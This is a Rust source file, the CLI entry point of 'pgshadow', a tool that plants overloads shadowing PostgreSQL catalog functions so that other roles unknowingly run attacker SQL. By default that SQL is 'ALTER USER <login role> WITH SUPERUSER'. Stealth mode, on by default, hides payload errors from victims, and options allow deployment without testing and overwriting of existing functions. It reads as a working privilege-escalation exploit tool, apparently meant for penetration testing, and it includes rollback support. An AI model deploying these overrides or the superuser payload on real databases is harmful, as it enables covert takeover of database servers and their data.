//! CLI entry point for `pgshadow`.

use std::io::IsTerminal;
use std::path::{Path, PathBuf};
use std::process;
use std::thread;
use std::time::Duration;

use clap::{Parser, ValueEnum};
use tracing::{info, warn};

use pgshadow::catalog::discovery::{CandidateDiscovery, DiscoveryOptions};
use pgshadow::catalog::priority::PriorityRegistry;
use pgshadow::deploy::{ledger, tracking};
use pgshadow::harness::detector::{InvocationDetector, MarkerTableDetector, ProxyCallDetector};
use pgshadow::output::formatter;
use pgshadow::pipeline::cancel::CancelFlag;
use pgshadow::pipeline::config::{CollisionPolicy, RunConfig, DEFAULT_MAX_VARIANTS};
use pgshadow::pipeline::run::Pipeline;
use pgshadow::session::pg::{ConnectOptions, PgSession};
use pgshadow::session::Session;

#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Detector {
    /// Call the override directly in this session.
    Proxy,
    /// Wait for another role to invoke the override.
    Background,
}

#[derive(Parser)]
#[command(
    name = "pgshadow",
    about = "Find PostgreSQL functions that can be shadowed by user-defined overloads"
)]
struct Cli {
    /// Login role
    #[arg(required_unless_present = "db_url")]
    db_username: Option<String>,

    /// Database name
    #[arg(required_unless_present = "db_url")]
    db_name: Option<String>,

    /// Database host
    #[arg(short = 'H', long, default_value = "127.0.0.1")]
    db_host: String,

    /// Database port
    #[arg(short = 'p', long, default_value_t = 5432)]
    db_port: u16,

    /// libpq sslmode
    #[arg(short = 'S', long)]
    db_ssl_mode: Option<String>,

    /// Full connection URL or keyword/value string; overrides the pieces above
    #[arg(long)]
    db_url: Option<String>,

    /// Database password
    #[arg(long, env = "PGPASSWORD", hide_env_values = true)]
    db_password: Option<String>,

    /// Prompt for the database password
    #[arg(short = 'P', long, conflicts_with = "db_url")]
    ask_pass: bool,

    /// Let payload errors surface to callers of deployed functions
    #[arg(short = 's', long)]
    disable_stealth_mode: bool,

    /// Log every invocation of deployed functions to pgshadow.triggers
    #[arg(short = 't', long)]
    track_execution: bool,

    /// Deploy every candidate without testing it first
    #[arg(short = 'T', long)]
    skip_tests: bool,

    /// Stop after testing
    #[arg(short = 'X', long)]
    disable_exploits_creation: bool,

    /// Skip candidates that already exist on the target
    #[arg(short = 'O', long)]
    no_overwrite: bool,

    /// Stop the run at the first candidate that already exists
    #[arg(long, conflicts_with = "no_overwrite")]
    abort_on_collision: bool,

    /// SQL run by deployed functions [default: ALTER USER <login role> WITH SUPERUSER]
    #[arg(short = 'x', long)]
    exploit_payload: Option<String>,

    /// Schema whose functions are shadowed (repeatable)
    #[arg(long = "catalog-schema", default_value = "pg_catalog")]
    catalog_schemas: Vec<String>,

    /// Schema overrides are created in
    #[arg(long, default_value = "public")]
    target_schema: String,

    /// Only consider these function names (repeatable)
    #[arg(long = "function")]
    functions: Vec<String>,

    /// Also shadow zero-argument functions
    #[arg(long)]
    include_zero_arity: bool,

    /// Most override signatures tried per catalog function (0 for no limit)
    #[arg(long, default_value_t = DEFAULT_MAX_VARIANTS)]
    max_variants: usize,

    /// JSON priority registry merged over the built-in one
    #[arg(long)]
    priority_registry: Option<PathBuf>,

    /// How invocation of test functions is detected
    #[arg(long, value_enum, default_value_t = Detector::Proxy)]
    detector: Detector,

    /// Observation window of the background detector
    #[arg(long, default_value_t = 60)]
    observe_timeout_secs: u64,

    /// Poll interval of the background detector
    #[arg(long, default_value_t = 1000)]
    poll_interval_ms: u64,

    /// Consecutive hits required by the proxy detector
    #[arg(long, default_value_t = 2)]
    confirmations: u32,

    /// Output directory (must exist)
    #[arg(short = 'o', long, default_value = "out")]
    out: PathBuf,

    /// Execute a previously written drop script and exit
    #[arg(long)]
    rollback_script: Option<PathBuf>,

    /// Print debug diagnostics
    #[arg(long)]
    verbose: bool,
}

fn main() {
    let cli = Cli::parse();

    let filter = if cli.verbose { "debug" } else { "info" };
    tracing_subscriber::fmt()
        .with_writer(std::io::stderr)
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new(filter)),
        )
        .init();

    process::exit(run(&cli));
}

fn run(cli: &Cli) -> i32 {
    if cli.rollback_script.is_none() {
        if let Err(e) = formatter::validate_output_dir(&cli.out) {
            eprintln!("Error: {e}");
            return 2;
        }
    }

    let mut priorities = PriorityRegistry::builtin();
    if let Some(path) = &cli.priority_registry {
        match std::fs::read_to_string(path) {
            Ok(content) => {
                if let Err(e) = priorities.load_from_json(&content) {
                    eprintln!("Error parsing priority registry: {e}");
                    return 2;
                }
            }
            Err(e) => {
                eprintln!("Error reading priority registry {}: {e}", path.display());
                return 2;
            }
        }
    }

    let password = match password(cli) {
        Ok(password) => password,
        Err(e) => {
            eprintln!("Error reading password: {e}");
            return 2;
        }
    };

    let mut session = match connect(cli, password) {
        Ok(session) => session,
        Err(e) => {
            eprintln!("Error connecting to database: {e}");
            return 2;
        }
    };

    if let Some(path) = &cli.rollback_script {
        let code = rollback(&mut session, path);
        session.close();
        return code;
    }

    let payload = match &cli.exploit_payload {
        Some(payload) => payload.clone(),
        None => match CandidateDiscovery::default().principal(&mut session) {
            Ok(principal) => RunConfig::superuser_payload(&principal),
            Err(e) => {
                eprintln!("Error reading session role: {e}");
                session.close();
                return 2;
            }
        },
    };

    if cli.track_execution || cli.detector == Detector::Background {
        if let Err(e) = tracking::provision(&mut session) {
            eprintln!("Error creating tracking tables: {e}");
            session.close();
            return 3;
        }
    }

    let cancel = CancelFlag::new();
    spawn_interrupt_watcher(cancel.clone());

    let mut pipeline = Pipeline::new(run_config(cli, payload))
        .with_priorities(priorities)
        .with_detector(detector(cli))
        .with_cancel_flag(cancel);

    let (report, code) = match pipeline.run(&mut session) {
        Ok(report) => {
            let code = report.outcome.exit_code();
            (report, code)
        }
        Err(aborted) => {
            eprintln!("Error: {aborted}");
            let code = aborted.report.outcome.exit_code();
            (*aborted.report, code)
        }
    };
    session.close();

    match formatter::write_output(&cli.out, &report) {
        Ok(paths) => {
            for path in paths {
                info!(path = %path.display(), "written");
            }
        }
        Err(e) => {
            eprintln!("Error writing output: {e}");
            return 2;
        }
    }

    println!(
        "{}: {} candidates, {} exploitable, {} deployed, {} errors",
        report.outcome,
        report.candidates.len(),
        report.exploitable.len(),
        report.deployed.len(),
        report.error_log.len()
    );
    if !report.ledger.is_empty() {
        println!(
            "Rollback: {}",
            cli.out.join(formatter::DROP_FILE).display()
        );
    }
    code
}

/// `--db-password`/`PGPASSWORD` when given, otherwise a prompt on `-P` or
/// an interactive terminal.
fn password(cli: &Cli) -> std::io::Result<Option<String>> {
    let interactive = cli.db_password.is_none()
        && cli.db_url.is_none()
        && std::io::stdin().is_terminal();
    if !cli.ask_pass && !interactive {
        return Ok(cli.db_password.clone());
    }
    let entered = rpassword::prompt_password("Enter DB password: ")?;
    Ok(Some(entered).filter(|p| !p.is_empty()))
}

fn connect(
    cli: &Cli,
    password: Option<String>,
) -> Result<PgSession, pgshadow::error::SessionError> {
    if let Some(url) = &cli.db_url {
        return PgSession::establish(url);
    }
    PgSession::connect(&ConnectOptions {
        username: cli.db_username.clone().unwrap_or_default(),
        password,
        database: cli.db_name.clone().unwrap_or_default(),
        host: cli.db_host.clone(),
        port: cli.db_port,
        sslmode: cli.db_ssl_mode.clone(),
    })
}

fn rollback(session: &mut PgSession, path: &Path) -> i32 {
    let script = match std::fs::read_to_string(path) {
        Ok(script) => script,
        Err(e) => {
            eprintln!("Error reading {}: {e}", path.display());
            return 2;
        }
    };
    match ledger::execute_drop_script(session, &script) {
        Ok(failures) if failures.is_empty() => 0,
        Ok(failures) => {
            for failure in &failures {
                eprintln!("Drop failed: {failure}");
            }
            1
        }
        Err(e) => {
            eprintln!("Error: {e}");
            2
        }
    }
}

fn run_config(cli: &Cli, payload: String) -> RunConfig {
    let collision = if cli.abort_on_collision {
        CollisionPolicy::Abort
    } else if cli.no_overwrite {
        CollisionPolicy::Skip
    } else {
        CollisionPolicy::Overwrite
    };
    RunConfig {
        stealth: !cli.disable_stealth_mode,
        tracking: cli.track_execution,
        run_tests: !cli.skip_tests,
        create_exploits: !cli.disable_exploits_creation,
        collision,
        payload,
        target_schema: cli.target_schema.clone(),
        discovery: DiscoveryOptions {
            catalog_schemas: cli.catalog_schemas.clone(),
            only: cli.functions.clone(),
        },
        include_zero_arity: cli.include_zero_arity,
        max_variants: (cli.max_variants > 0).then_some(cli.max_variants),
    }
}

fn detector(cli: &Cli) -> Box<dyn InvocationDetector> {
    match cli.detector {
        Detector::Proxy => Box::new(ProxyCallDetector::new(cli.confirmations)),
        Detector::Background => Box::new(MarkerTableDetector::new(
            Duration::from_secs(cli.observe_timeout_secs),
            Duration::from_millis(cli.poll_interval_ms),
        )),
    }
}

/// Set `cancel` on the first Ctrl-C. The run itself stays synchronous.
fn spawn_interrupt_watcher(cancel: CancelFlag) {
    thread::spawn(move || {
        let runtime = match tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
        {
            Ok(runtime) => runtime,
            Err(e) => {
                warn!(error = %e, "interrupt handling unavailable");
                return;
            }
        };
        if runtime.block_on(tokio::signal::ctrl_c()).is_ok() {
            warn!("interrupt received, finishing the current step");
            cancel.cancel();
        }
    });
}
